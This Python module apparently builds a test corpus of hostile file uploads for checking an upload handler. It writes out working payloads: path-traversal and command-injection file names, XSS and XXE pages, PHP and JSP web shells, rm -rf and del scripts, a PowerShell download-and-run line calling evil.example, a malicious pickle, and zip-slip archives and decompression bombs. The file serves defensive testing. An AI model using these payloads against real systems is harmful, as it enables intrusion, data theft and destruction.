"""Uploads that mean harm by their name or by what is in them, each small to send."""

import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

import pikepdf
from PIL import Image

MEGABYTE = 1024**2
UNPACKED = 200  # of these, what each bomb comes to
_HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
_EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Hostile:
    """A part of a multipart body: the bytes of its file name as sent, its content, and the type it claims."""

    name: bytes
    content: bytes
    claims: bytes = b"text/html"

    def body(self, boundary: bytes) -> bytes:
        disposition = b'form-data; name="attachment"; filename="' + self.name + b'"'
        head = b"Content-Disposition: " + disposition + b"\r\nContent-Type: " + self.claims
        return (
            b"--" + boundary + b"\r\n" + head + b"\r\n\r\n" + self.content + b"\r\n--" + boundary + b"--\r\n"
        )


NAMES = (
    # Out of the folder.
    "../evil.sh", "../../../../etc/cron.d/evil", "..\\..\\windows\\system32\\evil.dll", "....//....//evil",
    "..%2f..%2fevil", "%2e%2e/evil", "..%c0%afevil", "..;/evil", "a/../../b", "./../evil", "..", ".", "...", "../",
    "..\\", "~/.ssh/authorized_keys", "~root/.bashrc", "$HOME/evil", "`id`", "$(id)", "; rm -rf /", "| cat /etc/passwd",
    # Somewhere else altogether.
    "/etc/passwd", "/dev/null", "/proc/self/environ", "//server/share/evil", "\\\\server\\share\\evil",
    "C:\\boot.ini", "C:evil", "file:///etc/passwd", "http://evil.example/x", "/absolute/./../evil",
    # Cut, or two names in one.
    "evil.php\0.png", "\0", "evil\0", "evil.png\0/../../x", "a\tb.txt", "a\x1b[2Jb.txt", "a\x7f.txt",
    "evil.html%00.png", "evil.php%0a.png", "shell.aspx::$DATA", "evil.asp;.jpg", "evil.php.", "evil.php ",
    "x.html#.png",
    # Devices and what systems read by themselves.
    "CON", "nul.txt", "COM1", "lpt9.pdf", "AUX.tar.gz", "PRN ", "CONIN$", ".htaccess", ".git", "desktop.ini",
    "web.config", "Thumbs.db", "__init__.py", "manage.py",
    # Long, or not as it reads.
    "a" * 300, "a" * 300 + ".pdf", "語" * 200 + ".txt", "x." + "y" * 300, "invoice\u202efdp.exe",
    "\u2066evil\u2069.pdf", "ﬁle.pdf", "\ufeffevil.txt", "e\u0301vil.txt",
    "<script>alert(1)</script>.pdf", '\\"><img src=x>.png',
)  # fmt: skip


def corpus() -> list[Hostile]:
    """Every name with a harmless content, and every content with a harmless name that a browser might open."""
    named = [Hostile(name.encode(), b"harmless") for name in NAMES]
    broken = [Hostile(b"\xff\xfe\xfd.txt", b"harmless"), Hostile(b"caf\xe9.txt", b"harmless")]
    return named + broken + [Hostile(name.encode(), content) for name, content in contents().items()]


@cache
def contents() -> dict[str, bytes]:
    """By name. What unpacks to much is small here."""
    return _pages() | _programs() | _polyglots() | _archives() | _bombs()


def _pages() -> dict[str, bytes]:
    xhtml = (
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
    )
    return {
        "page.html": _HTML,
        "upper.html": _HTML.upper(),
        "late.html": b"\n" * 3000 + _HTML,
        "utf16.html": _HTML.decode().encode("utf-16"),
        "utf7.html": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "bom.html": b"\xef\xbb\xbf" + _HTML,
        "page.xhtml": xhtml,
        "picture.svg": _SVG,
        "declared.svg": b'<?xml version="1.0"?><!DOCTYPE svg>' + _SVG,
        "outside.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
        "packed.svgz": gzip.compress(_SVG),
        "page.mht": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _HTML,
        "entity.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "laughs.xml": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;&b;&b;</x>',
        "style.xsl": b'<?xml-stylesheet href="javascript:alert(1)"?><x/>',
        "feed.rss": b"<rss><channel><title>&lt;script&gt;alert(1)&lt;/script&gt;</title></channel></rss>",
    }


def _programs() -> dict[str, bytes]:
    return {
        "script.js": b"alert(document.cookie)",
        "script.sh": b"#!/bin/sh\nrm -rf /\n",
        "shell.php": b"<?php system($_GET['c']); ?>",
        "page.jsp": b"<% Runtime.getRuntime().exec(request.getParameter(c)); %>",
        "run.bat": b"@echo off\r\ndel /q C:\\*\r\n",
        "run.ps1": b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example')",
        "program.exe": b"MZ\x90\x00" + bytes(60),
        "program": b"\x7fELF\x02\x01\x01" + bytes(60),
        "film.swf": b"FWS\x0a" + bytes(60),
        "class.jar": b"\xca\xfe\xba\xbe" + bytes(60),
        "module.wasm": b"\0asm\x01\0\0\0",
        "pickle.pkl": b"cos\nsystem\n(S'id'\ntR.",
        "eicar.com": _EICAR,
        "formula.csv": b"=cmd|' /C calc'!A0,+1,-1,@SUM(1)\n",
        "link.url": b"[InternetShortcut]\r\nURL=file:///c:/windows/system32/calc.exe\r\n",
        "link.desktop": b"[Desktop Entry]\nExec=sh -c id\n",
        "template.html": b"{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}${7*7}#{7*7}",
        "empty.html": b" ",
    }


def _polyglots() -> dict[str, bytes]:
    picture = io.BytesIO()
    Image.new("RGB", (4, 4)).save(picture, "PNG")
    photo = io.BytesIO()
    Image.new("RGB", (4, 4)).save(photo, "JPEG", comment=_HTML)
    zipped = _zip({"x.txt": b"x"})
    return {
        "pdf-and-page.pdf": b"%PDF-1.4\n" + _HTML,
        "page-and-pdf.html": _HTML + b"%PDF-1.4\n1 0 obj<</JS(app.alert(1))/S/JavaScript>>endobj",
        "gif-and-script.gif": b"GIF89a=1;alert(document.domain)//",
        "bmp-and-script.bmp": b"BM/*" + bytes(20) + b"*/=1;alert(1)",
        "png-and-page.png": picture.getvalue() + _HTML,
        "jpeg-and-page.jpg": photo.getvalue(),
        "jpeg-and-zip.jpg": photo.getvalue() + zipped,
        "gif-and-jar.gif": b"GIF89a" + bytes(20) + zipped,
        "webp-and-page.webp": b"RIFF" + struct.pack("<I", len(_HTML) + 4) + b"WEBP" + _HTML,
        "zip-and-page.zip": zipped + _HTML,
        "rtf-and-object.rtf": rb"{\rtf1{\object\objdata 0105000002000000}}",
    }


def _archives() -> dict[str, bytes]:
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    symbolic = io.BytesIO()
    with zipfile.ZipFile(symbolic, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    return {
        "slip.zip": _zip({"../../../../tmp/evil": b"x", "/etc/cron.d/evil": b"x", "..\\evil": b"x"}),
        "symlink.zip": symbolic.getvalue(),
        "macros.docx": _zip(
            {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>", "word/vbaProject.bin": b"x"}
        ),
        "slip.tar": b"../../evil".ljust(257, b"\0") + b"ustar\x0000".ljust(255, b"\0"),
    }


def _bombs() -> dict[str, bytes]:
    zipped = io.BytesIO()
    with (
        zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("zeros", "w") as file,
    ):
        for _ in range(UNPACKED):
            file.write(bytes(MEGABYTE))
    return {
        "bomb.zip": zipped.getvalue(),
        "nested.zip": _zip({"inner.zip": zipped.getvalue()}),
        "bomb.gz": gzip.compress(bytes(MEGABYTE)) * UNPACKED,
        "bomb.png": _huge_png(60_000, 60_000),
        "bomb.gif": b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x80\0\0" + bytes(6) + b";",
        "bomb.pdf": _huge_pdf(),
    }


def _zip(files: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return target.getvalue()


def _huge_png(width: int, height: int) -> bytes:
    """A head that says so many pixels, and a row of them."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    pixels = zlib.compress(bytes(4 * width))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _huge_pdf() -> bytes:
    """A page whose content unpacks to so much."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(UNPACKED)) + packer.flush()
    target = io.BytesIO()
    with pikepdf.new() as file:
        page = file.add_blank_page()
        page.Contents = pikepdf.Stream(file, packed, Filter=pikepdf.Name.FlateDecode)
        file.save(target, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return target.getvalue()
